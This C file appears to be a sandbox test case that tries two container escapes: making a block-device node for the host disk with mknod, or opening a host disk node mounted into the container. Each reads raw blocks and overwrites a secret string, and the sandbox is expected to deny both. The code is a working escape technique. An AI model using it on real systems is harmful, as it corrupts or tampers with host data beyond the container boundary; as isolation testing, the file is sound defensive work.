// SPDX-License-Identifier: GPL-2.0-only
/*
 * The host's disk by a node of one's own: root in a container may make one,
 * and needs no mount to find and overwrite a file's blocks (debugfs does it).
 * Brad Spengler, "False Boundaries and Arbitrary Code Execution", 2011
 * (CAP_MKNOD); MITRE ATT&CK T1611.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "escape.h"

#define SIZE	(2 << 20)

/* Find the secret among the raw blocks, and write over it. */
static int overwrite(const char *disk)
{
	int fd = open(disk, O_RDWR | O_SYNC);
	char *image = malloc(SIZE), *at;

	if (fd < 0)
		return errno;
	if (pread(fd, image, SIZE, 0) != SIZE)
		return EIO;
	at = memmem(image, SIZE, SECRET_TEXT, sizeof(SECRET_TEXT) - 1);
	if (!at)
		return ENOENT;
	return pwrite(fd, SPOILT_TEXT, sizeof(SPOILT_TEXT) - 1, at - image) < 0 ?
	       errno : 0;
}

static int by_own_node(const struct args *a)
{
	(void)a;
	if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(DISK_MAJOR, DISK_MINOR)))
		return errno;
	return overwrite("/tmp/disk");
}

static int by_hosts_node(const struct args *a)
{
	(void)a;
	return overwrite("/dev/disk");
}

const struct escape mknod_disk[] = {
	{ "the host's disk by a node that it makes", { 0 }, disk_make,
	  .attempt = by_own_node, .escaped = disk_spoilt, .restore = disk_remove,
	  .error = EACCES, .act = BULKHEAD_ACT_MKNOD, .rule = "preset raw-disk" },
	{ "the host's disk by the host's node",
	  { .volumes = { DISK, "/dev/disk" } }, disk_make,
	  .attempt = by_hosts_node, .escaped = disk_spoilt, .restore = disk_remove,
	  .error = EACCES, .act = BULKHEAD_ACT_OPEN, .rule = "preset raw-disk" },
	{ NULL }
};
